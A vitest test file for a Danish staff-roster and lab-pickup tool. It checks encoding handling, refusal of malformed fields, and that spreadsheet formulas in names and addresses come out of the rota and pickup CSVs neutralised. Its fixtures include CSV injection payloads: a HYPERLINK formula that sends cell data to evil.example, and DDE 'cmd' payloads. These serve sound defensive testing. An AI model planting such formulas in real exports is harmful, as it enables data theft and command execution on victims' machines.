/**
 * One test per input defect of issue 10 (3, 5, 6, 7), run through the real readers and writers on
 * the sample files of tests/fixtures/roster-files. Each failed before the fix: Windows-1252 names
 * came out with U+FFFD, NUL bytes were published, a swapped roster echoed a staff name, a
 * 100,000-character field was accepted or echoed whole, formulas went into the CSVs unchanged.
 */
import { parse } from "csv-parse/sync";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { Municipality } from "../../src/domain/reference.ts";
import type { Site } from "../../src/domain/roster.ts";
import { InputError } from "../../src/errors.ts";
import { buildPickupRows, renderPickupsCsv } from "../../src/outputs/pickup-files.ts";
import { buildRotaRows, renderRotaCsv } from "../../src/outputs/rota-files.ts";
import { createThrowingSink } from "../../src/roster/input-problems.ts";
import { readRoster } from "../../src/roster/read-roster.ts";
import { readSites } from "../../src/roster/read-sites.ts";
import { SAMPLE_MUNICIPALITIES } from "../fixtures/roster/municipalities.ts";

const FIXTURES = join(import.meta.dirname, "..", "fixtures", "roster-files");
const KOEBENHAVN = SAMPLE_MUNICIPALITIES.filter((m: Municipality) => m.code === 101);
const NAMES = ["Søren", "Ærøskøbing", "Åse", "Øbergsen"];

/** The sample roster `101-<variant>.csv`, read as municipality 101's export. */
async function readSample(variant: string, warnings: string[] = []) {
  const sites = await readSites(join(FIXTURES, "sites.csv"), SAMPLE_MUNICIPALITIES);
  const roster = await readRoster(
    { dir: FIXTURES, pattern: `{code}-${variant}.csv`, municipalities: KOEBENHAVN, sites },
    createThrowingSink(warnings),
  );
  return { sites, roster };
}

async function refusal(promise: Promise<unknown>): Promise<InputError> {
  const error = await promise.then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(InputError);
  return error as InputError;
}

function expectNoStaffData(message: string): void {
  for (const name of NAMES) expect(message).not.toContain(name);
  expect(message).not.toContain("E101-");
  expect(message.split("\n")).toHaveLength(1);
}

const readCsv = (bytes: Uint8Array): string[][] => parse(Buffer.from(bytes), { bom: true, delimiter: ";" });

describe("input defects of issue 10", () => {
  const cases: { name: string; check: () => Promise<void> | void }[] = [
    {
      name: "a Windows-1252 roster: Søren is decoded, with a warning naming the file",
      check: async () => {
        const warnings: string[] = [];
        const { roster } = await readSample("cp1252", warnings);
        expect(roster.staff.map((member) => member.name)).toEqual(["Søren Ærøskøbing", "Åse Øbergsen"]);
        expect(warnings).toEqual([
          `${join(FIXTURES, "101-cp1252.csv")}: not UTF-8, read as Windows-1252 (Excel's "CSV (semikolonsepareret)"); save it as "CSV UTF-8" to be sure every letter is read right`,
        ]);
      },
    },
    {
      name: "a Windows-1252 sites file: site names and addresses decoded",
      check: async () => {
        const warnings: string[] = [];
        const sites = await readSites(
          join(FIXTURES, "sites-cp1252.csv"),
          SAMPLE_MUNICIPALITIES,
          createThrowingSink(warnings),
        );
        expect(sites.map((site) => [site.name, site.address])).toEqual([
          ["Plejecenter Søbakken", "Ærøvej 1, 2300 København S"],
          ["Hjemmeplejen Østerbro", "Århusgade 2, 2100 København Ø"],
          ["Plejehjemmet Åhaven", "Smallegade 3, 2000 Frederiksberg"],
        ]);
        expect(warnings).toHaveLength(1);
        expect(JSON.stringify(sites)).not.toContain("\uFFFD");
      },
    },
    {
      name: "a byte neither UTF-8 nor Windows-1252 is refused with file and line",
      check: async () => {
        const error = await refusal(readSample("undefined-byte"));
        expect(error.location).toEqual({ file: join(FIXTURES, "101-undefined-byte.csv"), line: 3 });
        expect(error.message).toContain("byte 0x81 is neither UTF-8 nor Windows-1252");
      },
    },
    {
      name: "a NUL byte in a name is refused with file, line and column",
      check: async () => {
        const error = await refusal(readSample("nul"));
        expect(error.location).toEqual({ file: join(FIXTURES, "101-nul.csv"), line: 2 });
        expect(error.message).toBe(
          `${join(FIXTURES, "101-nul.csv")}: line 2: name: expected text without control characters, found a NUL byte at character 6`,
        );
      },
    },
    {
      name: "a roster whose rows do not match its header never echoes the staff name",
      check: async () => {
        const error = await refusal(readSample("swapped-columns"));
        expect(error.message).toBe(
          `${join(FIXTURES, "101-swapped-columns.csv")}: line 2: site_id: expected a site id listed in the sites file, ` +
            "found a value of 16 characters that is not a known site id",
        );
        expectNoStaffData(error.message);
      },
    },
    {
      name: "a 100,000-character name is refused without echoing it",
      check: async () => {
        const error = await refusal(readSample("huge-field"));
        expect(error.message).toBe(
          `${join(FIXTURES, "101-huge-field.csv")}: line 2: name: expected at most 200 characters, found 100006`,
        );
        expectNoStaffData(error.message);
      },
    },
    {
      name: "formula names (=, +, -, @) come out of rota.csv inert",
      check: async () => {
        const { sites, roster } = await readSample("formula-names");
        const tests = roster.staff.map((member) => ({
          employeeId: member.employeeId,
          siteId: member.siteId,
          municipalityCode: 101,
          regionCode: 1084,
          date: "2020-10-05",
          weekday: 1 as const,
          shift: member.shift,
          reason: "cycle" as const,
        }));
        const rows = buildRotaRows(tests, roster.staff, sites).get(101) ?? [];
        const names = readCsv(renderRotaCsv(rows))
          .slice(1)
          .map((row) => row[1]);
        expect(names).toEqual([
          '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
          "'+cmd|' /C calc'!A0",
          "'-1+1",
          "'@SUM(1)",
        ]);
      },
    },
    {
      name: "formula site names and addresses come out of pickups.csv inert, counts stay numbers",
      check: () => {
        const site: Site = {
          id: "S1",
          municipalityCode: 101,
          kind: "nursing-home",
          name: '=HYPERLINK("http://evil.example/","x")',
          address: "\t@SUM(1)",
        };
        const run = {
          date: "2020-10-06",
          kind: "morning",
          departure: "08:00",
          latestArrival: "12:00",
        } as const;
        const rows = buildPickupRows(
          {
            regionCode: 1084,
            routed: false,
            deliveryFrom: "2020-10-01",
            shiftsWithoutTestDay: [],
            plan: {
              stops: [
                {
                  siteId: "S1",
                  run,
                  collects: [{ date: "2020-10-05", shift: "day", samples: 3, waitHours: 21 }],
                  kits: [{ date: "2020-10-07", shift: "day", kits: 4 }],
                  fromEarlierPlan: false,
                },
              ],
              runs: [],
              allocations: [],
              waitViolations: [],
              unservedKits: [],
            },
          },
          [{ ...site, accessNote: "=cmd|' /C calc'!A0" }],
        );
        const [, row] = readCsv(renderPickupsCsv(rows));
        expect(row?.slice(0, 9)).toEqual([
          "2020-10-06",
          "08:00",
          "S1",
          '\'=HYPERLINK("http://evil.example/","x")',
          "'\t@SUM(1)",
          "101",
          "3",
          "4",
          "2020-10-05",
        ]);
        // The access note (column 21) is the operator's text too.
        expect(row?.[20]).toBe("'=cmd|' /C calc'!A0");
      },
    },
  ];

  it.each(cases)("$name", async ({ check }) => {
    await check();
  });
});
